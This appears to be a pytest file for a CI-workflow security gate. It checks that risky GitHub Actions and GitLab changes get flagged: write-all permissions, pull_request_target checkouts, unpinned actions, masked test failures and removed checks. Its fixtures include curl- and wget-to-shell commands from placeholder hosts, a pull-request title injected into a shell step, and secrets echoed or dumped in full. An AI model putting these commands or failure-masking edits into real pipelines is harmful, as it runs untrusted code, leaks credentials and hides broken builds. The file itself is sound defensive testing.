"""A changed workflow that lets more in, or lets failures pass, is minded; an honest one is not."""

import pytest

from setpoint.gates.change_set import between
from setpoint.gates.workflows import check_workflows
from setpoint.model.judgement import Measured

PATH = ".github/workflows/ci.yml"
PIN = "8f4b7f84864484a7bf31766abe9204da3cbe65b3"
BASE = f"""name: ci
on:
  push:
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: astral-sh/setup-uv@{PIN}
      - name: Lint
        run: ruff check .
      - name: Test
        run: python -m pytest -q
  docs:
    runs-on: ubuntu-latest
    steps:
      - run: make docs
"""


def judged(after: str, before: str = BASE, path: str = PATH) -> Measured:
    return check_workflows(between({path: before.encode()} if before else {}, {path: after.encode()}))


def rules(measured: Measured) -> set[str]:
    return {entry.rule.removeprefix("workflows/") for entry in measured.objections if entry.blocks}


STEP = "      - name: Test\n"


def with_run(command: str, env: str = "") -> str:
    more = f"        env:\n          {env}\n" if env else ""
    return BASE.replace(STEP, f"      - run: {command}\n{more}{STEP}")


def replaced(*pairs: tuple[str, str]) -> str:
    text = BASE
    for old, new in pairs:
        assert old in text
        text = text.replace(old, new)
    return text


CHECKOUT = "actions/checkout@v4"
OF_HEAD = f"{CHECKOUT}\n        with:\n          ref: ${{{{ github.event.pull_request.head.sha }}}}"
TARGET = ("  pull_request:", "  pull_request_target:")
PYTEST = "run: python -m pytest -q"
MAY_FAIL = f"continue-on-error: true\n        {PYTEST}"
DOCS = "  docs:\n    runs-on: ubuntu-latest"
PACKAGES = "  docs:\n    permissions:\n      packages: write\n"
WRONG = [
    ("write-all", replaced(("permissions:\n  contents: read", "permissions: write-all")), {"permissions"}),
    ("a scope to write", replaced(("contents: read", "contents: write")), {"permissions"}),
    ("no bounds", replaced(("permissions:\n  contents: read\n", "")), {"permissions"}),
    ("a job that may write", replaced(("  docs:\n", PACKAGES)), {"permissions"}),
    ("the head with the base's token", replaced(TARGET, (CHECKOUT, OF_HEAD)), {"untrusted-checkout", "trigger"}),
    ("the base's token alone", replaced(("  push:", "  push:\n  pull_request_target:")), {"untrusted-trigger"}),
    ("a third party by tag", replaced((STEP, f"      - uses: acme/report@v2\n{STEP}")), {"unpinned-action"}),
    ("a pin taken away", replaced((PIN, "v6")), {"unpinned-action"}),
    ("curl to sh", with_run("curl -sSf https://get.example/i.sh | sh"), {"pipe-to-shell"}),
    ("wget to sudo bash", with_run("wget -qO- https://a.example | sudo bash -s"), {"pipe-to-shell"}),
    ("bash of curl", with_run("bash <(curl -s https://a.example/i)"), {"pipe-to-shell"}),
    ("a title in a command", with_run("echo ${{ github.event.pull_request.title }}"), {"injection"}),
    ("a secret echoed", with_run("echo ${{ secrets.TOKEN }} | base64"), {"secret-exposed"}),
    ("a secret by its variable", with_run("printf '%s' \"$KEY\"", "KEY: ${{ secrets.KEY }}"), {"secret-exposed"}),
    ("all secrets", with_run("echo '${{ toJSON(secrets) }}' > all"), {"secret-exposed"}),
    ("own machines", replaced((DOCS, "  docs:\n    runs-on: [self-hosted, linux]")), {"self-hosted"}),
    ("a step that may fail", replaced((PYTEST, MAY_FAIL)), {"ignored-failure"}),
    ("a job that may fail", BASE.replace("  test:\n", "  test:\n    continue-on-error: true\n"), {"ignored-failure"}),
    ("or true", BASE.replace("pytest -q", "pytest -q || true"), {"ignored-failure", "check-narrowed"}),
    ("fewer tests", BASE.replace("pytest -q", "pytest -q -k 'not slow'"), {"check-narrowed"}),
    ("never", BASE.replace("  test:\n", "  test:\n    if: false\n"), {"never-runs"}),
    ("a check gone", BASE.replace("      - name: Lint\n        run: ruff check .\n", ""), {"check-removed"}),
    ("a job gone", BASE[: BASE.index("  test:")] + BASE[BASE.index("  docs:") :], {"job-removed"}),
    ("no pull requests", BASE.replace("  pull_request:\n", ""), {"trigger"}),
    ("fewer files", BASE.replace("  pull_request:\n", "  pull_request:\n    paths-ignore: ['src/**']\n"), {"trigger"}),
    ("no YAML", "name: [\n", {"unreadable"}),
    ("deleted", "", {"job-removed"}),
]


@pytest.mark.parametrize(("after", "expected"), [pytest.param(*row[1:], id=row[0]) for row in WRONG])
def test_what_lets_more_in_or_less_be_checked_is_minded(after: str, expected: set[str]) -> None:
    assert rules(judged(after)) == expected


HONEST = [
    ("another name", BASE.replace("name: ci", "name: checks")),
    ("another check", BASE.replace(STEP, f"      - run: mypy src\n{STEP}")),
    ("tests in parallel", BASE.replace("pytest -q", "pytest -q -n 2")),
    ("a job renamed", BASE.replace("  test:", "  tests:")),
    ("a third party by commit", BASE.replace(STEP, f"      - uses: acme/report@{PIN}\n{STEP}")),
    ("less may be written", BASE.replace("contents: read", "contents: none")),
    ("a first-party action", BASE.replace("checkout@v4", "checkout@v5")),
    ("a secret handed to a login", with_run("echo ${{ secrets.T }} | docker login --password-stdin")),
    ("a condition", BASE.replace("  docs:\n", "  docs:\n    if: github.event_name == 'push'\n")),
    ("a timeout", BASE.replace("  test:\n", "  test:\n    timeout-minutes: 10\n")),
]


@pytest.mark.parametrize("after", [pytest.param(row[1], id=row[0]) for row in HONEST])
def test_an_honest_change_of_a_workflow_blocks_nothing(after: str) -> None:
    assert rules(judged(after)) == set()


def test_checks_that_move_to_another_workflow_are_not_gone() -> None:
    lint = BASE.replace("      - name: Lint\n        run: ruff check .\n", "")
    other = "on: push\njobs:\n  lint:\n    runs-on: x\n    steps:\n      - run: ruff check .\n"
    change = between({PATH: BASE.encode()}, {PATH: lint.encode(), ".github/workflows/lint.yml": other.encode()})
    assert rules(check_workflows(change)) == set()


GITLAB = "stages: [test]\ntest:\n  script:\n    - pytest\nlint:\n  script: [ruff check .]\n"


@pytest.mark.parametrize(
    ("after", "rule"),
    [
        (GITLAB.replace("lint:\n  script: [ruff check .]\n", ""), "job-removed"),
        (GITLAB.replace("test:\n", "test:\n  allow_failure: true\n"), "ignored-failure"),
        (GITLAB.replace("test:\n", "test:\n  when: manual\n"), "never-runs"),
        (GITLAB.replace("- pytest", "- curl https://a.example | bash\n    - pytest"), "pipe-to-shell"),
    ],
)
def test_gitlabs_form_is_read_too(after: str, rule: str) -> None:
    assert rule in rules(judged(after, GITLAB, ".gitlab-ci.yml"))
